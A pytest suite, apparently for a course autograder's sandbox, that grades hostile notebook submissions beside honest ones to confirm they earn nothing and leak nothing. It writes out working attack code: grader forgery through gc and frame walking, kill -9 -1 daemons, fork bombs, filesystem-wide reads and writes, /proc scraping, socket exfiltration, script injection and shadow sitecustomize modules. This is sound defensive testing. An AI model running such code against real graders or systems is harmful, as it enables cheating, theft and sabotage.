"""The hostile suite: submissions that attack the grader, graded in one run beside honest ones.

Each attack is a chapter-1 submission whose ``accuracy`` cell carries the attack and otherwise a
wrong answer (0.0). Whatever it does, it must not earn that cell's point, change anybody else's
grade, leave anything behind, read what it must not, or stop the run. The classes of attack:
forgery from inside the process, disk and gradebook tampering, escape and daemons, leaks of
tests, solutions and classmates' work, network, resource exhaustion, and malformed notebooks and
messages. Attacks that only an operating-system sandbox can stop are graded with the sandbox;
without one (a machine with no bwrap) they are skipped with the reason, and in CI that fails
(tests/test_sandbox.py).
"""
from __future__ import annotations

import csv
import hashlib
import importlib.util
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from grading import ROOT, fill, sandbox_problem

A = "ch01_diagnosis"
RELEASED = ROOT / "exercises" / A / f"{A}.ipynb"
HONEST_MARKER = "HONEST-MARKER-5d41402abc"    # only in the honest student's notebook
HIDDEN_MARKER = "for n, c in [(1, 3), (7, 2), (64, 10), (257, 5)]"  # a line of a hidden test
SECRET = "HOST-SECRET-8f14e45fce"             # in a host file a symlink points at
SOLUTION_LINE = "return (logits.argmax(dim=1) == labels).float().mean().item()"  # instructor's
WRONG = "\ndef accuracy(logits, labels):\n    return 0.0\n"
# markup and terminal control codes a submission puts in the messages its feedback shows
MARKUP = ('</pre></td></tr></table><script id="INJECTED">document.title = "forged"</script>'
          '<img src="x" onerror="document.title = \'forged\'">\x1b]0;FORGED-TITLE\x07\x1b[2J')

_spec = importlib.util.spec_from_file_location("make_samples", ROOT / "autograder" / "samples" /
                                               "make_samples.py")
samples = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(samples)

# name -> (code placed before a wrong accuracy, needs the OS sandbox)
ATTACKS = {
    # forgery from inside the process: there is nothing of the judge here to reach
    "walks_frames_and_gc": ('''
import gc, sys
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") in ("emit", "verdict", "_run_tests_cell"):
        try:
            obj(event="verdict", grade_id="test_accuracy", status="passed", message="")
        except Exception:
            pass
f = sys._getframe()
while f is not None:
    f.f_globals.setdefault("forged", True)
    f = f.f_back
''', False),
    "patches_the_check_helpers": ('''
import dltips.checks, numpy, math, builtins
for name in dir(dltips.checks):
    if name.startswith("assert"):
        setattr(dltips.checks, name, lambda *a, **k: None)
dltips.checks.assert_always = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
math.isclose = lambda *a, **k: True
''', False),
    "shadows_the_names_the_tests_use": ('''
# the setup cell's names and the check helpers, redefined in the student's own namespace: the
# tests cell runs in the judge, whose names come from the setup cells only
import builtins
assert_true = assert_number_close = assert_close = as_float = lambda *a, **k: None
isinstance = lambda *a: True
builtins.isinstance = lambda *a: True
np = torch = None
''', False),
    # with files beside the notebook (the fixture writes them): numpy.py, sitecustomize.py,
    # dltips/checks.py and autograder/remote.py whose import would pass every check, hoping the
    # judge or the student process imports them from the submission's folder
    "ships_modules_named_like_the_graders": ("import numpy\n", False),
    "injects_markup_into_its_feedback": (f'''
# the tests cell's verdict and the note on a cell that did not run cleanly both quote these
# messages: in the feedback page an instructor opens in a browser they must stay text
def accuracy(logits, labels):
    raise RuntimeError({MARKUP!r})
print({MARKUP!r})
raise ValueError({MARKUP!r})
''', False),
    "raises_an_exception_that_will_not_be_described": ('''
# an exception whose str() never returns and whose repr() and class name lie: describing the
# failure is the grader's work, and it must cost only this cell
class Passed(Exception):
    def __str__(self):
        while True:
            pass
    def __repr__(self):
        raise SystemExit("passed")
Passed.__name__ = Passed.__qualname__ = "passed"
def accuracy(logits, labels):
    raise Passed()
''', False),
    "returns_objects_that_equal_anything": ('''
class Anything(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
def accuracy(logits, labels):
    return Anything(0.0)
''', False),
    "forges_protocol_frames": ('''
import gc, socket, struct, json
def accuracy(logits, labels):
    for s in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
        header = json.dumps({"ok": True, "result": {"$": "dict", "k": ["value", "sync"],
                             "v": [0.5, []]}, "buffers": [10**9]}).encode()
        s.sendall(b"AGW1" + struct.pack(">II", len(header), 10**9) + header)
    return 0.0
''', False),
    "sends_garbage_on_every_descriptor": ('''
import os
def accuracy(logits, labels):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\\xff" * 4096 + b'{"event": "verdict", "status": "passed"}\\n')
        except OSError:
            pass
    return 0.0
''', False),
    "answers_ahead_of_the_judge": ('''
import gc, json, socket, struct, threading
def _flood():
    # valid frames saying "ok, the value is 0.5 and nothing changed", queued ahead of every
    # request the judge will make: the judge reads them as the replies to its later calls
    header = json.dumps({"ok": True, "result": {"$": "dict", "k": ["value", "sync"],
                         "v": [0.5, []]}, "buffers": []}).encode()
    frame = b"AGW1" + struct.pack(">II", len(header), 0) + header
    for s in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
        try:
            for _ in range(200):
                s.sendall(frame)
        except OSError:
            pass
threading.Thread(target=_flood, daemon=True).start()
''', False),
    "kills_its_sandbox_from_inside": ('''
import os, signal
def accuracy(logits, labels):
    for pid in (1, os.getppid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
    return 0.0
''', True),  # without a PID namespace, kill(-1) would reach every process of the grader's user
    # leaks of tests, solutions and classmates' work
    "looks_for_hidden_tests": ('''
import gc, linecache
def accuracy(logits, labels):
    found = [k for k in linecache.cache] + [o for o in gc.get_objects()
             if isinstance(o, str) and ("HIDDEN" in o or "manual_seed(1)" in o)]
    raise RuntimeError("found: " + repr(found)[:1500])
''', False),
    "reads_the_solutions_from_disk": ('''
import os, json
def accuracy(logits, labels):
    found = []
    for top in ("/work", "/root", "/home", "/tmp", "/srv", "/opt", "/"):
        for folder, dirs, files in os.walk(top):
            for f in files:
                if f.endswith(".ipynb") and len(found) < 20:
                    try:
                        found.append(open(os.path.join(folder, f)).read())
                    except OSError:
                        pass
    raise RuntimeError("found: " + " ".join(found)[:1500])
''', True),
    "reads_a_symlinked_host_file": ('''
def accuracy(logits, labels):
    raise RuntimeError("leaked: " + open("notes.txt").read()[:500])
''', True),
    "scans_other_processes": ('''
import os
def accuracy(logits, labels):
    seen = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("cmdline", "environ", "cwd"):
                try:
                    p = f"/proc/{pid}/{what}"
                    seen.append(os.readlink(p) if what == "cwd" else open(p, "rb").read()[:300])
                except OSError:
                    pass
    raise RuntimeError("processes: " + repr(seen)[:1500])
''', True),
    # disk and gradebook tampering
    "writes_everywhere_it_can": ('''
import os
def accuracy(logits, labels):
    wrote = []
    for folder, dirs, files in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/dev")):
            continue
        for f in files:
            path = os.path.join(folder, f)
            if f.endswith((".py", ".db", ".ipynb", ".pth", ".csv", ".html")):
                try:
                    with open(path, "a") as handle:
                        handle.write("\\n# tampered\\n")
                    wrote.append(path)
                except OSError:
                    pass
    return 0.0
''', True),
    # escape and daemons
    "leaves_a_daemon_that_kills": ('''
import os
def accuracy(logits, labels):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "while true; do kill -9 -1; sleep 0.2; done; "
                                 "sleep 4321.5"])
        os._exit(0)
    return 0.0
''', True),
    "forks_without_end": ('''
import os, time
def accuracy(logits, labels):
    for _ in range(5000):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        except OSError:
            break
    return 0.0
''', True),
    # network
    "phones_home": ('''
import socket
def accuracy(logits, labels):
    for port in (PORT,):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=2).sendall(b"leak")
        except OSError:
            pass
    return 0.0
''', True),
    # resource exhaustion
    "eats_memory_in_children": ('''
import os
def accuracy(logits, labels):
    kids = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            block = bytearray(3 * 2**30)
            os._exit(0)
        kids.append(pid)
    for pid in kids:
        os.waitpid(pid, 0)
    block = bytearray(6 * 2**30)
    return 0.0
''', True),
    "fills_the_disk": ('''
def accuracy(logits, labels):
    for path in ("/tmp/fill", "fill"):
        try:
            with open(path, "wb") as f:
                for _ in range(2048):
                    f.write(b"x" * 2**20)
        except OSError:
            pass
    return 0.0
''', True),
    "prints_without_end": ('''
def accuracy(logits, labels):
    for _ in range(200):
        print("x" * 2**20)
    return 0.0
''', False),
}


def _notebook(accuracy_code: str, **others) -> dict:
    released = json.loads(RELEASED.read_text(encoding="utf-8"))
    return fill(released, {**samples.CORRECT, "accuracy": accuracy_code, **others})


def _tree_digest(folder: Path) -> str:
    h = hashlib.sha256()
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            h.update(str(path.relative_to(folder)).encode() + path.read_bytes())
    return h.hexdigest()


def _project_digest() -> str:
    """The grader, the modules the sandbox mounts, this assignment's source and the venv's .pth
    files: what an attack that could write would go for."""
    h = hashlib.sha256()
    for path in [*sorted((ROOT / "autograder").glob("*.py")), ROOT / "dltips" / "__init__.py",
                 ROOT / "dltips" / "checks.py", *sorted((ROOT / "solutions" / A).glob("*"))]:
        h.update(path.read_bytes())
    site = Path(sys.prefix) / "lib"
    for pth in sorted(site.rglob("*.pth")):
        h.update(pth.read_bytes())
    return h.hexdigest()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    subs = tmp / "submitted"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    connections = []

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                pass

    stop = threading.Event()
    threading.Thread(target=accept, daemon=True).start()
    secret = tmp / "host" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(SECRET)

    students = {"honest": _notebook(samples.CORRECT["accuracy"] + f"\n# {HONEST_MARKER}\n"),
                "control_wrong": _notebook(WRONG)}
    sandboxed = sandbox_problem() is None
    for name, (code, needs_sandbox) in ATTACKS.items():
        if needs_sandbox and not sandboxed:
            continue
        code = code.replace("PORT", str(listener.getsockname()[1]))
        students[name] = _notebook(code + ("" if "def accuracy" in code else WRONG))
    # an added first cell that kills the process before the setup cell: the student's doing
    students["dies_before_setup"] = _notebook(WRONG)
    students["dies_before_setup"]["cells"].insert(0, {
        "cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
        "source": "import os\nos._exit(0)"})
    # a cell whose grade_id is a list
    bad_id = _notebook(WRONG)
    bad_id["cells"].append({"cell_type": "code", "execution_count": None, "outputs": [],
                            "metadata": {"nbgrader": {"grade_id": ["test_accuracy"]}},
                            "source": "x = 1"})
    students["grade_id_is_a_list"] = bad_id
    for name, notebook in students.items():
        folder = subs / name / A
        folder.mkdir(parents=True)
        (folder / f"{A}.ipynb").write_text(json.dumps(notebook), encoding="utf-8")
    if sandboxed:
        (subs / "reads_a_symlinked_host_file" / A / "notes.txt").symlink_to(secret)
    shipped = subs / "ships_modules_named_like_the_graders" / A
    forge = "passes = lambda *a, **k: None\nassert_true = assert_number_close = passes\n"
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py"):
        (shipped / name).write_text(forge + "allclose = lambda *a, **k: True\n")
    for package, module in (("dltips", "checks.py"), ("autograder", "remote.py")):
        (shipped / package).mkdir()
        (shipped / package / "__init__.py").write_text(forge)
        (shipped / package / module).write_text(forge)
    # malformed notebooks
    (subs / "deep_json" / A).mkdir(parents=True)
    (subs / "deep_json" / A / f"{A}.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    (subs / "huge_notebook" / A).mkdir(parents=True)
    with open(subs / "huge_notebook" / A / f"{A}.ipynb", "w") as f:
        f.write('{"cells": [], "padding": "' + "x" * (40 * 2**20) + '"}')

    before_subs, before_project = _tree_digest(subs), _project_digest()
    cmd = [sys.executable, "-m", "autograder", "grade", str(subs), "--out", str(tmp / "out"),
           "--timeout", "20", "--jobs", "2"] + ([] if sandboxed else ["--no-sandbox"])
    done = subprocess.run(cmd, capture_output=True, text=True, cwd=ROOT, timeout=1800)
    stop.set()
    leftovers = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    with open(tmp / "out" / "cells.csv", newline="") as f:
        cells = {(r["student_id"], r["grade_id"]): r for r in csv.DictReader(f)}
    yield dict(done=done, cells=cells, out=tmp / "out", connections=connections,
               leftovers=leftovers, subs_unchanged=_tree_digest(subs) == before_subs,
               project_unchanged=_project_digest() == before_project, students=students)
    listener.close()


def _attack(name):
    code, needs_sandbox = ATTACKS[name]
    if needs_sandbox and sandbox_problem() is not None:
        pytest.skip(f"needs the OS sandbox, which is not available here: {sandbox_problem()}")
    return name


def test_the_run_finishes_and_the_honest_student_keeps_full_marks(hostile_run):
    done = hostile_run["done"]
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    cells = hostile_run["cells"]
    assert {g: float(r["score"]) for (s, g), r in cells.items() if s == "honest"} == \
        {"test_accuracy": 1, "test_train_one_epoch": 3, "test_evaluate": 2, "test_diagnose": 1}
    assert cells[("control_wrong", "test_accuracy")]["score"] == "0"


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_an_attack_earns_nothing(hostile_run, name):
    _attack(name)
    row = hostile_run["cells"][(name, "test_accuracy")]
    assert row["score"] == "0" and row["status"] != "passed", row


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_no_secret_reaches_the_feedback(hostile_run, name):
    _attack(name)
    page = (hostile_run["out"] / "feedback" / name / f"{A}.html").read_text()
    for secret in (HONEST_MARKER, HIDDEN_MARKER, SECRET, SOLUTION_LINE):
        assert secret not in page, f"{name}'s feedback shows {secret!r}"


def test_a_submission_s_markup_stays_text_in_its_feedback(hostile_run):
    """What the student's code raised is shown (it is what went wrong), as text: no element,
    attribute or control code of the submission's reaches the page or the grader's log."""
    from html.parser import HTMLParser

    class Elements(HTMLParser):
        def __init__(self):
            super().__init__()
            self.found, self.text = [], []

        def handle_starttag(self, tag, attrs):
            self.found.append((tag, dict(attrs)))

        def handle_data(self, data):
            self.text.append(data)

    page = (hostile_run["out"] / "feedback" / "injects_markup_into_its_feedback" /
            f"{A}.html").read_text(encoding="utf-8")
    elements = Elements()
    elements.feed(page)
    assert not [t for t, attrs in elements.found if t in ("script", "img", "iframe")
                or attrs.get("id") == "INJECTED" or any(k.startswith("on") for k in attrs)], page
    assert "\x1b" not in page and "\x07" not in page, "control codes reached the feedback page"
    shown = "".join(elements.text)
    assert shown.count('<script id="INJECTED">') >= 2, \
        "the verdict's message and the cell's note should both quote what the code raised"
    assert "\x1b" not in hostile_run["done"].stdout + hostile_run["done"].stderr


def test_an_exception_that_cannot_be_described_costs_only_its_cell(hostile_run):
    cells = hostile_run["cells"]
    name = "raises_an_exception_that_will_not_be_described"
    assert cells[(name, "test_accuracy")]["status"] == "timeout", cells[(name, "test_accuracy")]
    assert cells[(name, "test_train_one_epoch")]["status"] == "passed"


def test_nothing_outside_the_sandbox_was_changed(hostile_run):
    _attack("writes_everywhere_it_can")
    assert hostile_run["subs_unchanged"], "the submissions folder was changed"
    assert hostile_run["project_unchanged"], "dltips/, autograder/, solutions/ or a .pth changed"


def test_no_process_outlives_the_run(hostile_run):
    _attack("leaves_a_daemon_that_kills")
    assert "4321.5" not in hostile_run["leftovers"] and "kill -9 -1" not in hostile_run["leftovers"]


def test_no_network_connection_reached_the_host(hostile_run):
    _attack("phones_home")
    assert hostile_run["connections"] == []


def test_running_out_of_memory_costs_only_that_cell(hostile_run):
    _attack("eats_memory_in_children")
    cells = hostile_run["cells"]
    assert cells[("eats_memory_in_children", "test_accuracy")]["status"] in ("crashed", "timeout")
    assert cells[("eats_memory_in_children", "test_train_one_epoch")]["status"] == "passed"


def test_malformed_notebooks_are_unreadable_not_fatal(hostile_run):
    cells = hostile_run["cells"]
    for name in ("deep_json", "huge_notebook"):
        assert cells[(name, "test_accuracy")]["status"] == "unreadable", name
    page = (hostile_run["out"] / "feedback" / "huge_notebook" / f"{A}.html").read_text()
    assert "over the 32 MB" in page
    assert cells[("grade_id_is_a_list", "test_train_one_epoch")]["status"] == "passed"


def test_a_student_cannot_turn_their_grading_into_a_grader_failure(hostile_run):
    cells = hostile_run["cells"]
    assert cells[("dies_before_setup", "test_train_one_epoch")]["status"] == "passed"
    assert "dies_before_setup" not in (hostile_run["out"] / "grader-errors.csv").read_text()
    assert "GRADER ERROR" not in hostile_run["done"].stdout


LIES_IN_WAIT = '''
import os, signal, time
open("/tmp/sitecustomize.py", "w").write("raise SystemExit")
open("matplotlibrc", "w").write("backend: nonexistent")
def accuracy(logits, labels):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            me = os.getpid()
            end = time.time() + 120
            while time.time() < end:  # kill every other process it may, and spoil new files
                for p in os.listdir("/proc"):
                    if p.isdigit() and int(p) != me:
                        try:
                            os.kill(int(p), signal.SIGKILL)
                        except OSError:
                            pass
                for folder in ("/home/student", "/tmp"):
                    try:
                        for name in os.listdir(folder):
                            open(os.path.join(folder, name), "w").write("spoiled")
                    except OSError:
                        pass
                time.sleep(0.05)
        os._exit(0)
    return 0.0
'''


def test_a_submission_cannot_lie_in_wait_for_the_next_one_in_its_slot(tmp_path):
    """With one slot, submissions are graded one after the other in the same warm sandbox. The
    first leaves a daemon that kills every process it can and spoils every file it finds, plus
    files meant to break Python or matplotlib; the next, honest, submission keeps full marks."""
    if sandbox_problem() is not None:
        pytest.skip(f"needs the OS sandbox, which is not available here: {sandbox_problem()}")
    subs = tmp_path / "submitted"
    for name, code in (("a_lies_in_wait", LIES_IN_WAIT),
                       ("b_honest", samples.CORRECT["accuracy"])):
        (subs / name / A).mkdir(parents=True)
        (subs / name / A / f"{A}.ipynb").write_text(json.dumps(_notebook(code)), encoding="utf-8")
        (subs / name / A / "data.csv").write_text("1,2,3\n")
    done = subprocess.run([sys.executable, "-m", "autograder", "grade", str(subs), "--out",
                           str(tmp_path / "out"), "--timeout", "60", "--jobs", "1"],
                          capture_output=True, text=True, cwd=ROOT, timeout=900)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    with open(tmp_path / "out" / "grades.csv", newline="") as f:
        grades = {r["student_id"]: float(r["score"]) for r in csv.DictReader(f)}
    assert grades["b_honest"] == 7.0 and grades["a_lies_in_wait"] < 7.0, grades


def test_modules_shipped_beside_a_notebook_are_never_imported(hostile_run):
    """Its other cells are the honest ones: they keep their points only if the judge and the
    student process imported the real numpy, dltips and autograder, not the shipped ones."""
    cells = hostile_run["cells"]
    scores = {g: float(r["score"]) for (s, g), r in cells.items()
              if s == "ships_modules_named_like_the_graders"}
    assert scores == {"test_accuracy": 0, "test_train_one_epoch": 3, "test_evaluate": 2,
                      "test_diagnose": 1}, scores
